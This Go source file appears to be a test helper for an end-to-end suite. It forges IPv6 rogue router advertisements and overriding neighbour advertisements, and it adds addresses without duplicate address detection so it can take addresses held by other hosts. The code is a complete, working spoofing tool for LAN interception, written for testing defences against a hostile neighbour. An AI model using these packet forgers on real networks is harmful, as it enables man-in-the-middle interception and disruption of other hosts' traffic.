// Command spoof does, inside a container, what a hostile neighbour would
// and busybox cannot. The e2e suite builds it statically and copies it into
// a busybox container that has NET_ADMIN.
//
//	spoof ra IFACE PREFIX       router advertisement to all nodes: default
//	                            router for 1800 s, PREFIX (a /64) on-link and
//	                            for SLAAC
//	spoof na IFACE TARGET MAC   unsolicited neighbour advertisement to all
//	                            nodes, override flag set: TARGET is at MAC
//	spoof addr IFACE CIDR       add an address without duplicate address
//	                            detection (busybox ip has no nodad), so it
//	                            can be used even while its owner holds it
package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"os"

	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "spoof:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	if len(args) < 3 {
		return fmt.Errorf("usage: spoof ra IFACE PREFIX | spoof na IFACE TARGET MAC | spoof addr IFACE CIDR")
	}
	ifi, err := net.InterfaceByName(args[1])
	if err != nil {
		return err
	}
	switch {
	case args[0] == "ra":
		p, err := netip.ParsePrefix(args[2])
		if err != nil || p.Bits() != 64 || !p.Addr().Is6() {
			return fmt.Errorf("prefix %q is not an IPv6 /64", args[2])
		}
		return send(ifi.Index, routerAdvert(p))
	case args[0] == "na" && len(args) == 4:
		target, err := netip.ParseAddr(args[2])
		if err != nil || !target.Is6() {
			return fmt.Errorf("target %q is not an IPv6 address", args[2])
		}
		mac, err := net.ParseMAC(args[3])
		if err != nil || len(mac) != 6 {
			return fmt.Errorf("MAC %q is not an Ethernet address", args[3])
		}
		return send(ifi.Index, neighAdvert(target, mac))
	case args[0] == "addr":
		return addNoDAD(args[1], args[2])
	}
	return fmt.Errorf("unknown command %q", args[0])
}

func addNoDAD(iface, cidr string) error {
	link, err := netlink.LinkByName(iface)
	if err != nil {
		return err
	}
	a, err := netlink.ParseAddr(cidr)
	if err != nil {
		return err
	}
	a.Flags = unix.IFA_F_NODAD
	return netlink.AddrReplace(link, a)
}

func routerAdvert(p netip.Prefix) []byte {
	m := []byte{134, 0, 0, 0, 64, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0}
	binary.BigEndian.PutUint16(m[6:], 1800) // router lifetime
	pio := make([]byte, 32)                 // prefix information option
	pio[0], pio[1], pio[2], pio[3] = 3, 4, 64, 0xc0
	binary.BigEndian.PutUint32(pio[4:], 86400) // valid lifetime
	binary.BigEndian.PutUint32(pio[8:], 14400) // preferred lifetime
	copy(pio[16:], p.Addr().AsSlice())
	return append(m, pio...)
}

func neighAdvert(target netip.Addr, mac net.HardwareAddr) []byte {
	m := []byte{136, 0, 0, 0, 0x20, 0, 0, 0} // override
	m = append(m, target.AsSlice()...)
	return append(append(m, 2, 1), mac...) // target link-layer address option
}

// send writes msg from the interface's link-local address with hop limit
// 255, as receivers require of neighbour discovery; the kernel fills in the
// ICMPv6 checksum.
func send(ifindex int, msg []byte) error {
	fd, err := unix.Socket(unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6)
	if err != nil {
		return fmt.Errorf("raw socket: %w", err)
	}
	defer unix.Close(fd)
	if err := unix.SetsockoptInt(fd, unix.IPPROTO_IPV6, unix.IPV6_MULTICAST_HOPS, 255); err != nil {
		return err
	}
	if err := unix.SetsockoptInt(fd, unix.IPPROTO_IPV6, unix.IPV6_MULTICAST_IF, ifindex); err != nil {
		return err
	}
	to := &unix.SockaddrInet6{ZoneId: uint32(ifindex)}
	copy(to.Addr[:], net.ParseIP("ff02::1").To16())
	if err := unix.Sendto(fd, msg, 0, to); err != nil {
		return fmt.Errorf("sending: %w", err)
	}
	return nil
}
